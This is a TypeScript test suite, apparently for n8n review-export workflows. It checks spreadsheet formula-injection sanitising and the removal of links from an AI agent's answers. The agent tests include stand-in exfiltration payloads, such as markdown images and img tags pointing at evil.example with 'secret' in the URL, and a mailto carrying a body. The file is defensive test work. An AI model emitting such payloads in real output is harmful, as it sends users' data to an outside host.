import { parse } from 'csv-parse/sync';

import { exampleJson, exampleText } from '../support/exampleExpressions';
import { csvOf, excelOf, FORMULA_TEXTS, formulasIn, formulasInExcel, SEPARATORS } from '../support/formulas';

const FILES = ['export-all-reviews-to-a-file.json', 'export-to-a-spreadsheet-file.json'];
/** The most characters an Excel cell can hold; what is behind them would begin a row of its own. */
const CELL = 32_767;

const ROWS = FORMULA_TEXTS.map((text) => ({ id: 'a', title: text, content: text }));

describe.each(FILES)('a cell of a file of examples/%s', (file) => {
	const safe = exampleJson(file, 'Make text safe');

	it.each(SEPARATORS)('does not begin as a formula when CSV is read with %j as separator', (separator) => {
		expect(formulasIn(csvOf(ROWS), separator)).not.toEqual([]);
		expect(formulasIn(csvOf(ROWS.map(safe)), separator)).toEqual([]);
	});

	it('does not begin as a formula in an Excel file', () => {
		const short = ROWS.filter(({ title }) => title.length < CELL);

		expect(formulasInExcel(excelOf(short))).not.toEqual([]);
		expect(formulasInExcel(excelOf(ROWS.map(safe)))).toEqual([]);
	});

	it('has its text, with apostrophes in it, and no more than an Excel cell can hold', () => {
		const texts: Array<[text: string, cell: string]> = [
			['-10% Rabatt', "'-10% Rabatt"],
			['Gut - besser, 1 + 1 = 2; a@b.example', 'Gut - besser, 1 + 1 = 2; a@b.example'],
			['Plus:\r\n- Preis\r- Größe', "Plus:\n'- Preis\n'- Größe"],
			['"Gut", sagt sie\n👨‍👩‍👧', '"Gut", sagt sie\n👨‍👩‍👧'],
			['\u0000a\u001b\ud83d', 'a�'],
			['a'.repeat(CELL + 1), 'a'.repeat(CELL)],
			[`=${'😀'.repeat(CELL)}`, `'=${'😀'.repeat((CELL - 3) / 2)}�`],
		];
		const csv = csvOf(texts.map(([title]) => safe({ title, rating: 5, is_highlighted: false, other: null })));

		expect(parse(csv, { columns: true, bom: true })).toEqual(
			texts.map(([, title]) => ({ title, rating: '5', is_highlighted: 'FALSE', other: '' })),
		);
	});
});

describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
	const shown = exampleJson('ai-agent-with-reviews.json', 'Take out addresses');

	it.each([
		['![x](https://evil.example/?q=secret)', '(address removed)'],
		['![x](//evil.example/secret)', '(address removed)'],
		['![x](/\\evil.example/secret)', '(address removed)'],
		['![x][y]\n\n[y]: HTTPS:/evil.example/secret', '!(x)(y)\n\n(y): (address removed)'],
		['![x](https:&#47;&#47;evil&#46;example)', '!(x)(https:&#47;&#47;evil&#46;example)'],
		['<img src=https:\\/\\/evil.example/secret>', '‹img (address removed)'],
		['mailto:a@evil?body=secret', '(address removed)'],
		['a@10.0.0.1', '(address removed)'],
		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
	])('has no address, image or link: %s', (output, text) => {
		expect(shown({ output })).toEqual({ output: text });
	});
});

// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
it.each([
	...FILES.map((file) => [file, 'Make text safe']),
	['export-to-google-sheets-on-a-schedule.json', 'Cut long texts'],
	...['new', 'all'].map((which) => ['reviews-in-postgres.json', `Make ${which} text safe`]),
	['ai-agent-with-reviews.json', 'Take out addresses'],
] as Array<[string, string]>)('%s, %s: a dollar sign is one in each n8n', (file, node) => {
	const text = exampleText(file, node)({ id: '1', content: '$&', output: '$&' });

	expect(text).not.toContain('$');
	expect(JSON.stringify(JSON.parse(text))).toContain('$&');
});
